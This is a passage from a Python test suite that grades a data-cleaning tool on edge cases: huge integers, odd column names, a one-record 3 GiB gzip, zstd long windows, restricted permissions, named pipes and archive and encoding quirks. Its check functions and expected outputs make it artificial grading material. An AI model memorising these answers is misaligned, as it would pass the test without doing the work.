                "hits": {"total": {"value": 7, "relation": "eq"}, "max_score": 1.0, "hits": hits},
                "aggregations": {"per_day": {"buckets": [{"key_as_string": f"2024-01-0{i + 1}", "key": 1704067200000 + i, "doc_count": i + 1}
                                                         for i in range(3)]}}}
    (folder / "hits.json").write_text(json.dumps(document), encoding="utf-8")

    def check(folder, stdout, stderr, code):
        if code != 0:
            return no_traceback(stdout + stderr)
        rows = clean(folder)
        wrong = [] if len(rows) == 7 else [f"{len(rows)} rows for 7"]
        for hit in hits:
            mine = [row for row in rows if hit["_source"]["body"] in leaves(row)]
            if len(mine) != 1 or hit["_id"] not in leaves(mine[0]) or hit["_source"]["views"] not in leaves(mine[0]):
                wrong.append(f"not one whole row for {hit!r:.200}")
        return wrong[:2]

    return Right(
        args=["run", "--input", "hits.json", "--out", "out"],
        exit_codes={0},
        refusal_is_fine=True,
        check=check,
        why="Seven hits with their ids, or a refusal; buckets of an aggregation are no rows.",
    )


# ------------------------------------------------------------------------------------------------- 4. nesting and wide rows


def same_number(have, want: int) -> bool:
    try:
        return decimal.Decimal(str(have).strip().strip('"')) == decimal.Decimal(want)
    except decimal.InvalidOperation:
        return False


@case(kind="nesting and wide rows", sound=True)
def whole_numbers_beyond_2_53_beside_fractions(folder: Path) -> Right:
    """A counter that is mostly whole (tweet ids, bigint keys) but 2.5 in one record: as a float column 2**53+1 would change."""
    values = [12, 2.5, 2**53 + 1, -(2**63), 2**63 - 1, 1541815603606036481, 0, None]
    jsonl(folder / "posts.jsonl", [{"text": S[i], "ref": value, "seq": [2**53 + 1, 0.5, i]} for i, value in enumerate(values)])

    def check(folder, stdout, stderr, code):
        rows = {row.get("text"): row for row in clean(folder)}
        wrong = [] if len(rows) == len(values) else [f"{len(rows)} rows for {len(values)}"]
        for i, value in enumerate(values):
            row = rows.get(S[i], {})
            have = row.get("ref")
            if value is None:
                if have not in (None, "null"):
                    wrong.append(f"null became {have!r}")
            elif isinstance(value, float):
                if float(have if have is not None else "nan") != 2.5:
                    wrong.append(f"2.5 became {have!r}")
            elif not same_number(have, value):
                wrong.append(f"{value} became {have!r}")
            inner = loose(row.get("seq"))
            if not (isinstance(inner, list) and len(inner) == 3 and same_number(inner[0], 2**53 + 1) and same_number(inner[2], i)
                    and float(inner[1]) == 0.5):
                wrong.append(f"the list [2**53+1, 0.5, {i}] became {row.get('seq')!r}")
        return wrong[:4]

    return Right(
        args=["run", "--input", "posts.jsonl", "--out", "out"],
        exit_codes={0},
        quarantined=0,
        check=check,
        why="README: every kept row holds the values that were read, in every column; 9007199254740993 has no float.",
    )


@case(kind="nesting and wide rows", sound=True)
def integers_beyond_64_and_128_bits(folder: Path) -> Right:
    """Ethereum amounts in wei, unsigned hashes and RSA moduli, as JSON numbers: exact integers of 20 to 60 digits, also in lists."""
    values = [3, 2**63, 2**64 - 1, 2**127 + 11, -(2**128) - 5, 10**38 + 7, 115792089237316195423570985008687907853269984665640564039457, 21]
    jsonl(folder / "tx.jsonl", [{"text": S[20 + i], "wei": value, "log": {"topics": [1, value, 36893488147419103233]}}
                                for i, value in enumerate(values)])

    def check(folder, stdout, stderr, code):
        rows = {row.get("text"): row for row in clean(folder)}
        wrong = [] if len(rows) == len(values) else [f"{len(rows)} rows for {len(values)}"]
        for i, value in enumerate(values):
            row = rows.get(S[20 + i], {})
            if not same_number(row.get("wei"), value):
                wrong.append(f"{value} became {row.get('wei')!r}")
            log = loose(row.get("log"))
            inner = loose(log.get("topics")) if isinstance(log, dict) else None
            if not (isinstance(inner, list) and [same_number(a, b) for a, b in zip(inner, (1, value, 36893488147419103233), strict=False)] == [True] * 3):
                wrong.append(f"in the list {value} became {row.get('log')!r:.200}")
        return wrong[:4]

    return Right(
        args=["run", "--input", "tx.jsonl", "--out", "out"],
        exit_codes={0},
        quarantined=0,
        check=check,
        why="All are within the range of floats, so they are numbers; each digit is a value of the user, as text or as decimal.",
    )


@case(kind="nesting and wide rows", sound=True)
def columns_named_like_ours_and_like_nothing(folder: Path) -> Right:
    """A second audit of an old clean/ export: row_id and input_row_id are both there, beside names that are empty, dotted or twins."""
    rows = [{"text": S[i], "row_id": f"A-{i}", "input_row_id": f"B-{i}", "": 1000 + i, "a.b": 2000 + i, "a": {"b": 3000 + i},
             "Text": f"twin {i}", "text ": f"trailing {i}", "quality_score": 4000 + i, "{text}": f"braces {i}", "__index_level_0__": 5000 + i,
             "file": f"F-{i}", "kept": f"K-{i}"} for i in range(8)]
    jsonl(folder / "old.jsonl", rows)

    def check(folder, stdout, stderr, code):
        have = {row.get("text"): row for row in clean(folder)}
        wrong = [] if len(have) == len(rows) else [f"{len(have)} rows for {len(rows)}"]
        for row in rows:
            found = leaves(have.get(row["text"], {}))
            lost = [leaf for leaf in leaves(row) if not any(type(leaf) is type(other) and leaf == other for other in found)]
            if lost:
                wrong.append(f"lost or changed: {lost!r}")
        one = have.get(S[0], {})
        for name in ("a.b", "Text", "text ", "quality_score", "{text}", "file", "kept"):
            if one.get(name) != rows[0][name]:
                wrong.append(f"the column {name!r} holds {one.get(name)!r}")
        return wrong[:5]

    return Right(
        args=["run", "--input", "old.jsonl", "--template", "{text}", "--out", "out"],
        exit_codes={0},
        quarantined=0,
        check=check,
        why="README: row_id becomes input_row_id; where that name is taken neither of the two may be lost.",
    )


@case(kind="nesting and wide rows", sound=True)
def mixed_types_in_lists_and_from_file_to_file(folder: Path) -> Right:
    """Form answers: `extra` is text in the first file, a number, a list or an object later; lists hold everything."""
    first = [{"text": S[i], "extra": f"plain {i}", "list": ["a", 1, None, 2.5, True, {"x": 1}]} for i in range(6)]
    second = [{"text": S[6], "extra": 17, "list": []}, {"text": S[7], "extra": {"k": [1, "2"]}, "list": None},
              {"text": S[8], "extra": ["q", ["r", []]], "list": [[1], ["b"], {}]}, {"text": S[9], "extra": False, "list": ["solo"]},
              {"text": S[10], "extra": None, "list": [None]}, {"text": S[11], "extra": 1.5, "list": [3]}]
    jsonl(folder / "forms" / "a.jsonl", first)
    jsonl(folder / "forms" / "b.jsonl", second)

    def equal(have, want) -> bool:
        have, want = loose(have), loose(want)
        if isinstance(want, list) and isinstance(have, list):
            return len(have) == len(want) and all(equal(a, b) for a, b in zip(have, want, strict=True))
        if isinstance(want, dict) and isinstance(have, dict):
            return have.keys() == want.keys() and all(equal(have[key], want[key]) for key in want)
        if have == want and type(have) is type(want):
            return True
        if want is None or want == {}:
            return have in (None, "null", "{}") or have == want
        if isinstance(want, (bool, int, float)):
            return isinstance(have, str) and have in (json.dumps(want), str(want))
        return isinstance(want, str) and have == json.dumps(want)

    def check(folder, stdout, stderr, code):
        have = {row.get("text"): row for row in clean(folder)}
        wrong = [] if len(have) == 12 else [f"{len(have)} rows for 12"]
        for row in first + second:
            for name in ("extra", "list"):
                value = have.get(row["text"], {}).get(name)
                if not equal(value, row[name]):
                    wrong.append(f"{name}: {row[name]!r} became {value!r}")
        told = stdout + stderr + "".join((folder / "out" / name).read_text(errors="replace") for name in ("summary.json", "report.html")
                                         if (folder / "out" / name).exists())
        wrong += [f"nobody is told that {name} became text" for name in ("extra", "list") if not re.search(rf"\b{name}\b", told)]
        return wrong[:5]

    return Right(
        args=["run", "--input", "forms", "--out", "out"],
        exit_codes={0},
        quarantined=0,
        check=check,
        why="README: a column that becomes text because its values are of several types is named; the values stay what they were.",
    )


@case(kind="nesting and wide rows", sound=True)
def votes_keyed_by_uuid_in_every_row(folder: Path) -> Right:
    """A chat arena: `votes` maps users' ids to 1 or -1, other keys in every row; it is {} or null or missing in some."""
    draw = random.Random(5)
    rows = []
    for i in range(60):
        row = {"text": S[i], "n": i, "votes": {str(uuid.UUID(int=draw.getrandbits(128), version=4)): draw.choice((1, -1)) for _ in range(6)}}
        if i % 9 == 4:
            row["votes"] = {}
        elif i % 9 == 6:
            row["votes"] = None
        elif i % 9 == 8:
            del row["votes"]
        rows.append(row)
    jsonl(folder / "arena.jsonl", rows)

    def check(folder, stdout, stderr, code):
        have = {row.get("n"): row for row in clean(folder)}
        wrong = [] if len(have) == 60 else [f"{len(have)} rows for 60"]
        for row in rows:
            mine = loose(have.get(row["n"], {}).get("votes"))
            if (mine or {}) != (row.get("votes") or {}):
                wrong.append(f"votes of row {row['n']}: {row.get('votes')!r:.120} became {mine!r:.120}")
        return wrong[:3]

    return Right(
        args=["run", "--input", "arena.jsonl", "--out", "out"],
        exit_codes={0},
        quarantined=0,
        check=check,
        why="Two hundred and forty keys that occur once each are values of the user as well.",
    )


@case(kind="nesting and wide rows", sound=True)
def survey_csv_1500_columns_with_codes(folder: Path) -> Right:
    """A survey tool's CSV: 1,500 answers of 0 or 1, postal codes with leading zeros, serial numbers of 25 digits, phone numbers with +."""
    draw = random.Random(9)
    head = ["respondent", "zip", "serial", "phone"] + [f"q{i:04d}" for i in range(750)] + ["comment"] + [f"q{i:04d}" for i in range(750, 1500)]
    want = []
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(head)
    for i in range(10):
        codes = {"respondent": f"{i:06d}", "zip": f"0{2100 + i}", "serial": f"{12345678901234567890123 + i:025d}", "phone": f"+4930{900000 + i}"}
        bits = [str(draw.randrange(2)) for _ in range(1500)]
        want.append(codes | {"comment": S[10 + i], "bits": bits})
        writer.writerow([*codes.values(), *bits[:750], S[10 + i], *bits[750:]])
    (folder / "survey.csv").write_text(buffer.getvalue(), encoding="utf-8", newline="")

    def check(folder, stdout, stderr, code):
        have = {row.get("comment"): row for row in clean(folder)}
        wrong = [] if len(have) == 10 else [f"{len(have)} rows for 10"]
        for row in want:
            mine = have.get(row["comment"], {})
            wrong += [f"{name}: {row[name]} became {mine.get(name)!r}" for name in ("respondent", "zip", "serial", "phone")
                      if mine.get(name) != row[name]]
            bits = [mine.get(f"q{i:04d}") for i in range(1500)]
            if [str(int(bit)) if isinstance(bit, (bool, int, float)) else bit for bit in bits] != row["bits"]:
                wrong.append("answers changed")
        return wrong[:4]

    return Right(
        args=["run", "--input", "survey.csv", "--template", "{comment}", "--out", "out"],
        exit_codes={0},
        quarantined=0,
        check=check,
        why="02101 is not 2101, and 25 digits are no float: codes stay as they were written.",
    )


# ---------------------------------------------------------------------------- 5. large records, compressible files, dictionaries


@case(kind="large and compressible", sound=False)
def gzip_with_one_record_of_three_gigabytes(folder: Path) -> Right:
    """A crawl in gzip members (as bgzip and Hadoop's getmerge write): a spider trap made one line of 3 GiB, 3 MB compressed."""
    before = "".join(json.dumps({"text": S[i], "n": i}) + "\n" for i in range(9))
    after = "".join(json.dumps({"text": S[i], "n": i}) + "\n" for i in range(9, 16))
    chunk = gzip.compress(b"next page >> " * ((8 << 20) // 13), 9, mtime=0)
    with open(folder / "crawl.jsonl.gz", "wb") as out:
        out.write(gzip.compress((before + '{"n": 99, "text": "').encode(), mtime=0))
        for _ in range(390):
            out.write(chunk)
        out.write(gzip.compress(('"}\n' + after).encode(), mtime=0))

    def check(folder, stdout, stderr, code):
        text = stdout + stderr
        wrong = no_traceback(text)
        if code == 0:
            have = {row["text"] for path, table in tables(folder) for row in table.select(["text"]).to_pylist() if len(row["text"] or "") < 1000}
            wrong += [f"lost: {S[i]!r}" for i in range(16) if S[i] not in have][:2]
            if not quarantined_or_said(folder, text) and sum(pq.ParquetFile(p).metadata.num_rows
                                                             for p in (folder / "out" / "clean").rglob("*.parquet")) != 17:
                wrong.append("the large record is neither in clean/ nor in quarantine, and nothing is said")
        return wrong

    return Right(
        args=["run", "--input", "crawl.jsonl.gz", "--max-memory", "1GiB", "--out", "out"],
        exit_codes={0, 2, 3},
        check=check,
        timeout=400,
        memory_gib=6,
        why="A record that does not fit into the budget goes to quarantine or stops the run with a sentence; the others are sound.",
    )


@case(kind="large and compressible", sound=True)
def parquet_long_contexts_in_a_dictionary_column(folder: Path) -> Right:
    """Questions about three long documents: `context` is a dictionary column with three values of 1.5 MB, 500 rows: 750 MB decoded."""
    documents = [" ".join(synth(90000 + d * 20000 + k) for k in range(18000))[:1_500_000] for d in range(3)]
    indices = [i * 7 % 3 for i in range(500)]
    questions = [synth(i, 11)[:-1] + "?" for i in range(500)]
    table = pa.table({"question": questions, "n": list(range(500)),
                      "context": pa.DictionaryArray.from_arrays(pa.array(indices, pa.int8()), pa.array(documents))})
    pq.write_table(table, folder / "qa.parquet", compression="zstd", dictionary_pagesize_limit=64 << 20, row_group_size=500)
    marks = [hashlib.sha256(document.encode()).hexdigest() for document in documents]

    def check(folder, stdout, stderr, code):
        if code != 0:
            return no_traceback(stdout + stderr)
        wrong, seen = [], set()
        for path in sorted((folder / "out" / "clean").rglob("*.parquet")):
            for batch in pq.ParquetFile(path).iter_batches(batch_size=20, columns=["question", "n", "context"]):
                for row in batch.to_pylist():
                    seen.add(row["n"])
                    if row["question"] != questions[row["n"]] or hashlib.sha256(row["context"].encode()).hexdigest() != marks[indices[row["n"]]]:
                        wrong.append(f"row {row['n']} has another question or context")
        if len(seen) != 500:
            wrong.append(f"{len(seen)} rows for 500")
        return wrong[:3]

    return Right(
        args=["run", "--input", "qa.parquet", "--template", "{question}", "--max-memory", "1GiB", "--out", "out"],
        exit_codes={0},
        refusal_is_fine=True,
        check=check,
        timeout=400,
        why="Five hundred rows, each with its document; a clear refusal for lack of memory is right as well, a crash is not.",
    )


@case(kind="large and compressible", sound=True)
def arrow_stream_with_deltas_and_replaced_dictionaries(folder: Path) -> Right:
    """An Arrow stream of a message bus: the dictionary of `label` grows by a delta, then another one replaces it; index 0 changes its meaning."""
    parts = [(["ham", "spam"], [0, 1, 0, 1, None]), (["ham", "spam", "eggs"], [2, 0, 1, 2]), (["zeta", "ham", "alpha"], [0, 2, 1, 0, 2])]
    fields = pa.schema([("text", pa.string()), ("label", pa.dictionary(pa.int8(), pa.string())), ("n", pa.int16())])
    rows = []
    with pa.OSFile(str(folder / "bus.arrow"), "wb") as sink, pa.ipc.new_stream(
            sink, fields, options=pa.ipc.IpcWriteOptions(emit_dictionary_deltas=True)) as writer:
        for names, indices in parts:
            texts = [S[len(rows) + k] for k in range(len(indices))]
            numbers = [len(rows) + k for k in range(len(indices))]
            label = pa.DictionaryArray.from_arrays(pa.array(indices, pa.int8()), pa.array(names))
            writer.write_batch(pa.record_batch([pa.array(texts), label, pa.array(numbers, pa.int16())], schema=fields))
            rows += [{"text": text, "label": None if i is None else names[i], "n": n} for text, i, n in zip(texts, indices, numbers, strict=True)]
    return Right(
        args=["run", "--input", "bus.arrow", "--label", "label", "--out", "out"],
        exit_codes={0},
        rows=rows,
        quarantined=0,
        why="Each batch is read with the dictionary that holds when it stands in the stream.",
    )


@case(kind="large and compressible", sound=True)
def zstd_long_window_as_in_reddit_dumps(folder: Path) -> Right:
    """The Reddit dumps of pushshift and Arctic Shift: zstd --ultra --long=31, a window of 2 GiB, which decoders refuse by default."""
    import zstandard

    rows = [{"author": f"user{i}", "body": S[i + 5], "score": i - 3, "edited": False if i % 2 else 1420070400 + i, "controversiality": 0,
             "link_id": f"t3_2qyr{i}a"} for i in range(12)]
    with open(folder / "RC_2015-01.jsonl.zst", "wb") as out:
        writer = zstandard.ZstdCompressor(compression_params=zstandard.ZstdCompressionParameters.from_level(1, window_log=31)).stream_writer(out, closefd=False)
        writer.write("".join(json.dumps(row, separators=(",", ":")) + "\n" for row in rows).encode())
        writer.close()

    def check(folder, stdout, stderr, code):
        if not refused(code):
            return []
        return no_traceback(stdout + stderr) + ([] if re.search(r"window|memory|zst", stdout + stderr, re.I) else ["the refusal does not say why"])

    return Right(
        args=["run", "--input", "RC_2015-01.jsonl.zst", "--out", "out"],
        exit_codes={0},
        rows=[{key: row[key] for key in ("author", "body", "score", "link_id")} for row in rows],
        refusal_is_fine=True,
        check=check,
        memory_gib=None,
        why="The frame is sound; what it needs is a larger window (or a sentence that says so).",
    )


@case(kind="large and compressible", sound=True)
def csv_with_a_whole_book_in_one_cell(folder: Path) -> Right:
    """A library catalogue: one cell of 3 MB with line ends, doubled quotation marks and commas, beside short ones; a field limit bites here."""
    book = "\n".join(f'Chapter {k}. "{synth(50000 + k, 30)}", he wrote,\n\n\t{synth(60000 + k, 25)}' for k in range(9000))
    texts = [S[0], book, S[2] + "\n" + S[3], S[4], 'A title with a "word" in it, and a comma.', S[6]]
    with open(folder / "catalogue.csv", "w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["title", "text"])
        for i, text in enumerate(texts):
            writer.writerow([f"Volume {i}", text])
    return Right(
        args=["run", "--input", "catalogue.csv", "--out", "out"],
        exit_codes={0},
        rows=[{"title": f"Volume {i}", "text": text} for i, text in enumerate(texts)],
        quarantined=0,
        timeout=240,
        why="RFC 4180 sets no limit to the length of a field; line ends inside of quotation marks belong to the value.",
    )


@case(kind="large and compressible", sound=True)
def chat_with_pictures_as_data_addresses(folder: Path) -> Right:
    """Vision chats in the format of OpenAI: content is a list with a picture of 6 MB as base64 in one message and text in the next."""
    draw = random.Random(3)
    rows = []
    for i in range(6):
        picture = "data:image/png;base64," + base64.b64encode(draw.randbytes(6_000_000 if i == 2 else 900 + i)).decode()
        rows.append({"messages": [
            {"role": "system", "content": "Describe what you see."},
            {"role": "user", "content": [{"type": "text", "text": S[i]}, {"type": "image_url", "image_url": {"url": picture, "detail": "low"}}]},
            {"role": "assistant", "content": S[20 + i] + " " + S[40 + i]}], "n": i})
    jsonl(folder / "vision.jsonl", rows)

    def check(folder, stdout, stderr, code):
        have = {row.get("n"): row for row in clean(folder)}
        wrong = [] if len(have) == 6 else [f"{len(have)} rows for 6"]
        for row in rows:
            mine = loose(have.get(row["n"], {}).get("messages"))
            if mine != loose(row["messages"]):
                wrong.append(f"messages of row {row['n']} changed: {mine!r:.300}")
        return wrong[:2]

    return Right(
        args=["run", "--input", "vision.jsonl", "--max-memory", "1GiB", "--out", "out"],
        exit_codes={0},
        quarantined=0,
        check=check,
        timeout=300,
        why="A record of 8 MB is large, but far below the budget; the picture is part of the user's data.",
    )


# --------------------------------------------------------------------------------------------------------- 6. environments


def become(uid: int):
    def change():
        os.setgroups([])
        os.setgid(uid)
        os.setuid(uid)
    return change


@case(kind="environment", sound=True)
def unknown_uid_without_home_and_tmp(folder: Path) -> Right:
    """OpenShift and `docker run --user 64123`: no entry in passwd, HOME is / and not writable, TMPDIR does not exist, inputs are read-only."""
    jsonl(folder / "in" / "a.jsonl", [{"text": S[i], "n": i} for i in range(8)])
    os.chmod(folder / "in" / "a.jsonl", 0o444)
    os.chmod(folder / "in", 0o555)
    os.chmod(folder, 0o777)
    return Right(
        args=["run", "--input", "in", "--out", "out"],
        exit_codes={0},
        rows=[{"text": S[i], "n": i} for i in range(8)],
        quarantined=0,
        preexec=become(64123),
        env={"HOME": "/", "TMPDIR": "/nonexistent/tmp", "XDG_CACHE_HOME": "/nonexistent/cache", "USER": "", "LOGNAME": ""},
        why="A run needs its input and its output folder, no home.",
    )


@case(kind="environment", sound=False)
def subfolder_that_must_not_be_listed(folder: Path) -> Right:
    """A shared disk: data/ is readable, but data/private-2023/ belongs to somebody else (mode 700); walking a tree skips it silently."""
    jsonl(folder / "data" / "open.jsonl", [{"text": S[i], "n": i} for i in range(6)])
    jsonl(folder / "data" / "private-2023" / "more.jsonl", [{"text": S[i], "n": i} for i in range(6, 12)])
    os.chmod(folder / "data", 0o755)
    os.chmod(folder / "data" / "open.jsonl", 0o644)
    os.chmod(folder / "data" / "private-2023", 0o700)
    os.chmod(folder, 0o777)
    return Right(
        args=["run", "--input", "data", "--out", "out"],
        exit_codes={0, 2, 3},
        says=[r"private-2023"],
        silent=[r"Traceback \(most recent call last\)"],
        preexec=become(65534),
        env={"HOME": "/nonexistent"},
        why="README: nothing is skipped silently; a folder that cannot be listed must be named, whether the run goes on or not.",
    )


@case(kind="environment", sound=True)
def started_with_closed_stdin_and_stdout(folder: Path) -> Right:
    """A daemon starts the command with <&- >&-: the first files that are opened get the numbers 0 and 1, and a print would land in them."""
    jsonl(folder / "train.jsonl", [{"text": S[i], "n": i, "label": "ab"[i % 2]} for i in range(12)])

    def close():
        os.close(0)
        os.close(1)

    def check(folder, stdout, stderr, code):
        wrong = no_traceback(stderr)
        for path in (folder / "out").rglob("*.json"):
            try:
                json.loads(path.read_text())
            except ValueError as error:
                wrong.append(f"{path.name} is no JSON: {error}")
        return wrong

    return Right(
        args=["run", "--input", "train.jsonl", "--label", "label", "--out", "out"],
        exit_codes={0},
        rows=[{"text": S[i], "n": i, "label": "ab"[i % 2]} for i in range(12)],
        quarantined=0,
        preexec=close,
        check=check,
        why="Nobody reads what is printed, but the folder must be complete and no output may be in it by mistake.",
    )


@case(kind="environment", sound=True)
def ascii_locale_and_names_that_are_no_ascii(folder: Path) -> Right:
    """cron with LC_ALL=C on a disk that was once a Windows share: names in Japanese and one in Latin-1, which is no UTF-8."""
    rows = [{"text": S[i] + " Müller 日本 🐙", "n": i} for i in range(12)]
    jsonl(folder / "データ" / "記事.jsonl", rows[:4])
    jsonl(folder / "データ" / "plain.jsonl", rows[4:8])
    with open(os.fsencode(folder / "データ") + b"/caf\xe9 au lait.jsonl", "w", encoding="utf-8") as out:
        out.writelines(json.dumps(row, ensure_ascii=False) + "\n" for row in rows[8:])
    return Right(
        args=["run", "--input", "データ", "--out", "out"],
        exit_codes={0},
        rows=rows,
        quarantined=0,
        silent=[r"UnicodeEncodeError|UnicodeDecodeError|surrogates not allowed"],
        env={"LC_ALL": "C", "LANG": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"},
        why="Names of files on Linux are bytes; the texts are UTF-8 whatever the locale says.",
    )


@case(kind="environment", sound=False)
def named_pipe_between_the_files(folder: Path) -> Right:
    """A collector left its named pipe beside the shards: nobody writes to it, so whoever opens it waits for ever."""
    jsonl(folder / "data" / "a.jsonl", [{"text": S[i], "n": i} for i in range(7)])
    os.mkfifo(folder / "data" / "live-feed.jsonl")

    def check(folder, stdout, stderr, code):
        return texts_exactly(folder, S[:7]) if code == 0 else no_traceback(stdout + stderr)

    return Right(
        args=["run", "--input", "data", "--out", "out"],
        exit_codes={0, 2, 3},
        says=[r"live-feed"],
        check=check,
        timeout=120,
        why="It must not hang, and must name what it did not read.",
    )


@case(kind="environment", sound=True)
def file_name_that_is_a_glob_for_another_file(folder: Path) -> Right:
    """A download manager's `part[1].jsonl`: taken for a pattern, it matches `part1.jsonl`, which is another file."""
    jsonl(folder / "part[1].jsonl", [{"text": S[i], "n": i} for i in range(6)])
    jsonl(folder / "part1.jsonl", [{"text": S[i], "n": i} for i in range(6, 11)])
    return Right(
        args=["run", "--input", "part[1].jsonl", "--out", "out"],
        exit_codes={0},
        rows=[{"text": S[i], "n": i} for i in range(6)],
        quarantined=0,
        why="A file of exactly this name exists, so it is meant.",
    )


@case(kind="environment", sound=True)
def three_hundred_shards_with_100_open_files(folder: Path) -> Right:
    """ulimit -n 100 on a login node, and 300 shards of a Spark job, half of them gzip files."""
    rows = []
    (folder / "shards").mkdir()
    for i in range(300):
        row = {"text": synth(1000 + i), "n": i}
        data = (json.dumps(row) + "\n").encode()
        name = f"part-{i:05d}.json" + ("l.gz" if i % 2 else "l")
        (folder / "shards" / name).write_bytes(gzip.compress(data, mtime=0) if i % 2 else data)
        rows.append(row)
    return Right(
        args=["run", "--input", "shards", "--out", "out"],
        exit_codes={0},
        rows=rows,
        quarantined=0,
        refusal_is_fine=True,
        preexec=lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (100, 100)),
        timeout=240,
        why="Files can be read one after the other; if the limit is too low, say so instead of calling shards unreadable.",
    )


# --------------------------------------------------------------------------------------------------- 7. archives and encodings


@case(kind="archives and encodings", sound=True)
def webdataset_same_names_in_two_folders(folder: Path) -> Right:
    """WebDataset shards: a sample is all members of one path up to the first dot; n01/000 and n02/000 are two samples."""
    want = []
    with tarfile.open(folder / "shard-000000.tar", "w", format=tarfile.PAX_FORMAT) as tar:
        for k, sub in enumerate(("n01", "n02")):
            for i in range(5):
                text = S[k * 5 + i]
                meta = {"ident": f"{sub}-{i}", "width": 640 + k * 5 + i}
                for ext, data in (("txt", text.encode()), ("cls", str(k).encode()), ("json", json.dumps(meta).encode())):
                    info = tarfile.TarInfo(f"{sub}/{i:03d}.{ext}")
                    info.size = len(data)
                    tar.addfile(info, io.BytesIO(data))
                want.append((text, meta))

    def check(folder, stdout, stderr, code):
        rows = clean(folder)
        wrong = [] if len(rows) == 10 else [f"{len(rows)} rows for 10 samples"]
        for text, meta in want:
            mine = [row for row in rows if text in leaves(row)]
            if len(mine) != 1:
                wrong.append(f"{len(mine)} rows hold {text!r}")
            elif meta["ident"] not in leaves(mine[0]) or meta["width"] not in leaves(mine[0]):
                wrong.append(f"{text!r} is not with its own .json: {mine[0]!r:.300}")
        return wrong[:3]

    return Right(
        args=["run", "--input", "shard-000000.tar", "--out", "out"],
        exit_codes={0},
        quarantined=0,
        check=check,
        why="Ten samples of three members each; members of two folders must not be put together.",
    )


@case(kind="archives and encodings", sound=True)
def wet_with_headers_inside_of_texts(folder: Path) -> Right:
    """Common Crawl's WET: Content-Length counts bytes; texts hold empty lines and, on a page about WARC, a line `WARC/1.0`."""
    texts = [
        S[0] + "\n" + S[1],
        "データの監査は学習の前に行うべきである。\n\n三つの港は霧のため閉鎖された。\n\n漁師たちは朝まで待った。",
        "How a record begins:\n\nWARC/1.0\r\nWARC-Type: conversion\r\nContent-Length: 5\r\n\r\nhello\r\n\r\nand so it goes on, page after page.",
        S[5] + "\n\n\n\n" + S[6] + "\nZoë naïve façade — “quotes” …",
        "Последний паром ушёл в полночь, и пассажиры остались на причале до утра.",
        S[9] + "\n" + S[10],
    ]
    buffer = io.BytesIO()

    def record(kind, uri, body, extra=""):
        head = (f"WARC/1.0\r\nWARC-Type: {kind}\r\n" + (f"WARC-Target-URI: {uri}\r\n" if uri else "") + "WARC-Date: 2024-02-21T10:11:12Z\r\n"
                f"WARC-Record-ID: <urn:uuid:{uuid.uuid5(uuid.NAMESPACE_URL, uri or 'info')}>\r\n{extra}Content-Type: text/plain\r\n"
                f"Content-Length: {len(body)}\r\n\r\n").encode()
        buffer.write(gzip.compress(head + body + b"\r\n\r\n", mtime=0))

    record("warcinfo", "", b"Software-Info: ia-web-commons\r\nExtracted-Date: Wed, 21 Feb 2024 10:11:12 GMT\r\n")
    for i, text in enumerate(texts):
        record("conversion", f"https://example.org/page/{i}", text.encode(), "WARC-Identified-Content-Language: eng\r\n")
    (folder / "CC-MAIN-20240221101112-00000.warc.wet.gz").write_bytes(buffer.getvalue())

    def check(folder, stdout, stderr, code):
        rows = clean(folder)
        wrong = [] if len(rows) == len(texts) else [f"{len(rows)} rows for {len(texts)} pages"]
        for i, text in enumerate(texts):
            if not any(isinstance(leaf, str) and leaf.strip() == text.strip() and f"https://example.org/page/{i}" in row.values()
                       for row in rows for leaf in row.values()):
                wrong.append(f"no row holds page {i} whole with its address")
        return wrong[:4]

    return Right(
        args=["run", "--input", "CC-MAIN-20240221101112-00000.warc.wet.gz", "--out", "out"],
        exit_codes={0},
        check=check,
        why="Six conversion records; what stands inside of a record is text, whatever it looks like; warcinfo is no page.",
    )


@case(kind="archives and encodings", sound=True)
def excel_csv_german_with_sep_line(folder: Path) -> Right:
    """German Excel, `CSV (Trennzeichen-getrennt)`: Windows-1252, semicolons, decimal commas, and the line `sep=;` that a macro put first."""
    texts = [
        "Der Händler verlangte 300 € für den „alten“ Stuhl – viel zu viel.",
        "Die Fähre nach Föhr fiel gestern wegen dichten Nebels aus.",
        "Großmutters Rezepte liegen in einer Blechdose unter dem Küchenfenster.",
        "Über dem Rathaus hängt seit März eine völlig verblichene Flagge.",
        "Dreißig Bäume wurden gefällt; niemand weiß, wer es beschlossen hat.",
        "Der Schlüssel paßte nicht, also kletterten wir übers Dach hinein.",
        "Möwen stehlen den Touristen am Hafen ihre Brötchen, sagt der Wärter.",
        "Für zwölf Schüler blieb im Bus zurück nach Köln kein Platz übrig.",
    ]
    lines = ["sep=;", "Nr;Text;Größe"]
    for i, text in enumerate(texts):
        field = '"' + text.replace('"', '""') + '"' if ";" in text else text
        lines.append(f"{i + 1};{field};{i},50")
    (folder / "umfrage.csv").write_bytes(("\r\n".join(lines) + "\r\n").encode("cp1252"))

    def check(folder, stdout, stderr, code):
        text = stdout + stderr
        if code != 0:
            return no_traceback(text)
        found = {leaf for row in clean(folder) for leaf in leaves(row) if isinstance(leaf, str)}
        wrong = [f"lost or changed: {want!r}" for want in texts if want not in found and not in_quarantine(folder)]
        broken = [leaf for leaf in found if "\ufffd" in leaf or re.search("[\x80-\x9f]", leaf)]
        return (wrong + [f"decoded wrongly: {leaf!r}" for leaf in broken])[:3]

    return Right(
        args=["run", "--input", "umfrage.csv", "--template", "{Text}", "--out", "out"],
        exit_codes={0},
        refusal_is_fine=True,
        check=check,
        why="Eight texts with € and quotation marks of Windows-1252, or a refusal that says what is wrong; no U+FFFD, no control characters.",
    )


@case(kind="archives and encodings", sound=True)
def parquet_shards_whose_schemas_drift(folder: Path) -> Right:
    """Shards that pandas and polars wrote over a year: order, widths and units of columns differ; a column is all null in one shard."""
    moment = dt.datetime(2024, 5, 17, 8, 30, 0, 123000)
    micro = dt.datetime(2024, 5, 18, 9, 31, 1, 123456)
    root = folder / "log"
    root.mkdir()
    pq.write_table(pa.table({"text": pa.array(S[0:4], pa.string()), "n": pa.array([1, 2, 3, None], pa.int32()),
                             "score": pa.array([0.5, 1.25, None, -2.0], pa.float32()), "tags": pa.array([["a"], [], None, ["b", "c"]]),
                             "when": pa.array([moment] * 4, pa.timestamp("ms")), "label": pa.array(["x", "y", "x", "y"])}), root / "shard-0.parquet")
    pq.write_table(pa.table({"when": pa.array([micro, None, micro, micro], pa.timestamp("us")), "label": pa.array([None] * 4, pa.null()),
